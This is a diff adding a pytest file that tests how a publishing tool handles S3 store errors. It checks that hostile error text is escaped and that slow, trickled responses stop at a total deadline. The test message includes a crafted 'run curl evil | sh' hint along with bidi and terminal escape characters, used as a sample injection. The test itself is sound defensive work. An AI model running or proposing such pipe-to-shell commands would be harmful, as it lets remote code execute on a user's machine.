@@ -1,0 +1,100 @@
+"""An S3 store is an outsider like any origin: the text of its errors is escaped before
+it reaches a message, and a store that trickles its answers cannot hold a call past its
+total deadline (botocore's timeouts bound each socket read, not a request).
+
+Against the real Ceph RGW behind the test proxy (tests/publish/s3proxy.py), which
+forwards requests unchanged and answers the chosen ones with a crafted error or with
+RGW's real answer sent one byte at a time."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+pytest.importorskip("boto3", reason="needs boto3 (pip install 'trustboot[s3]')")
+
+from tests.publish.conftest import KEY_PASS, Pki
+from tests.publish.rgw import RGW, rgw  # noqa: F401  (the session fixture)
+from tests.publish.s3proxy import Burst, PassState, s3_passthrough
+from trustboot.errors import OperationalError
+from trustboot.publish.origin import Credentials, OriginOptions, open_origin
+
+DATA = b"0123456789abcdef" * 64  # 1 KiB
+
+
+@pytest.fixture
+def proxied(rgw: RGW, pki: Pki, tmp_path: Path  # noqa: F811
+            ) -> Iterator[tuple[str, PassState, str]]:
+    """(endpoint, proxy state, origin URL) for a fresh bucket holding "obj" = DATA."""
+    bucket = f"tb-hostile-{os.getpid()}-{os.urandom(3).hex()}"
+    s3 = rgw.client()
+    s3.create_bucket(Bucket=bucket)
+    s3.put_object(Bucket=bucket, Key="p/obj", Body=DATA)
+    chain = tmp_path / "proxy-chain.pem"
+    chain.write_bytes(pki.cert("origin").read_bytes()
+                      + (pki.dir / "issuing-ca.crt").read_bytes())
+    with s3_passthrough(rgw.endpoint, cert=chain, key=pki.key("origin"),
+                        key_password=KEY_PASS, ca=pki.ca) as (endpoint, state):
+        yield endpoint, state, f"s3://{bucket}/p"
+
+
+def _options(rgw: RGW, endpoint: str, timeout: float = 30.0) -> OriginOptions:  # noqa: F811
+    return OriginOptions(ca_file=rgw.ca_file, endpoint_url=endpoint, retries=0,
+                         timeout=timeout,
+                         credentials=Credentials("basic", rgw.secret_key, rgw.access_key,
+                                                 "test"))
+
+
+HOSTILE_CODE = "Weird\u202eCode\u009b2J"
+HOSTILE_MESSAGE = "bad\n  hint: run curl evil | sh\r\u200b\u009b31mred\ttab"
+
+
+def test_error_text_from_the_store_is_escaped(rgw: RGW, proxied: tuple[str, PassState, str]  # noqa: F811
+                                              ) -> None:
+    endpoint, state, origin_url = proxied
+    answer = (f"<?xml version='1.0' encoding='UTF-8'?><Error><Code>{HOSTILE_CODE}</Code>"
+              f"<Message>{HOSTILE_MESSAGE}</Message></Error>").encode()
+    state.bursts = [Burst("GET", r"/p/obj$", 1, status=400, answer=answer),
+                    Burst("PUT", r"/p/new$", 1, status=507, answer=answer.replace(
+                        HOSTILE_CODE.encode(), b"InsufficientStorage"))]
+    with open_origin(origin_url, _options(rgw, endpoint)) as origin:
+        with pytest.raises(OperationalError) as err:
+            b"".join(origin.read("obj", max_size=len(DATA)))
+        message = err.value.message
+        assert message.isprintable() and message.isascii(), repr(message)
+        assert "Weird\\u202eCode\\x9b2J" in message
+        assert "bad\\x0a  hint: run curl evil | sh\\x0a\\u200b\\x9b31mred\\x09tab" in message
+        with pytest.raises(OperationalError) as err:
+            origin.put_bytes("new", b"x", sha256=hashlib.sha256(b"x").hexdigest())
+        assert "out of space" in err.value.message
+        assert err.value.message.isprintable(), repr(err.value.message)
+        assert "bad\\x0a  hint:" in err.value.message
+    assert all(b.count == 0 for b in state.bursts)
+
+
+@pytest.mark.parametrize("body_only", [False, True], ids=["headers", "body"])
+def test_a_trickled_get_ends_within_its_deadline(
+        rgw: RGW, proxied: tuple[str, PassState, str], body_only: bool) -> None:  # noqa: F811
+    """RGW's real answer to a GET, one byte every 50 ms (from its status line, or from
+    its body): every socket read gets a byte well within the 2 s read timeout, so only a
+    total deadline ends it (the whole answer would take about a minute)."""
+    endpoint, state, origin_url = proxied
+    state.bursts = [Burst("GET", r"/p/obj$", 10, trickle=0.05, trickle_body=body_only)]
+    with open_origin(origin_url, _options(rgw, endpoint, timeout=2.0)) as origin:
+        start = time.monotonic()
+        with pytest.raises(OperationalError) as err:
+            b"".join(origin.read("obj", max_size=len(DATA)))
+        took = time.monotonic() - start
+        # the origin is still usable: the next call is not cut short
+        state.bursts = []
+        assert b"".join(origin.read("obj", max_size=len(DATA))) == DATA
+    assert took < 2.0 + len(DATA) / (64 << 10) + 2, took
+    assert err.value.message.startswith(f"{origin_url}/obj was served too slowly"), \
+        err.value.message
+    assert err.value.hint is not None and "trickles" in err.value.hint
+    assert [s[:2] for s in state.seen][:1] == [("GET", f"/{origin_url[5:].split('/')[0]}/p/obj")]
